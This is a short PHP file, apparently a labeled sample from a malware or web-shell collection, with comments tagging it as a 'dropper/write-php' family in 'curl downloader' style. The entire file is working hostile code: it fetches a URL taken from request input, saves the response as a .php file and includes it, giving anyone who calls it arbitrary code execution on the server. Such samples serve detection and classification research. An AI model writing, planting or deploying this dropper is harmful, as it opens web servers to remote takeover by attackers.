<?php
/* Family: dropper/write-php
 * Style: curl downloader
 * Trait: curl fetch of a request URL saved to a .php name, then included */
$c = curl_init($_REQUEST['from']);
curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
$body = curl_exec($c);
file_put_contents('tmp_' . md5($_REQUEST['from']) . '.php', $body);
include 'tmp_' . md5($_REQUEST['from']) . '.php';
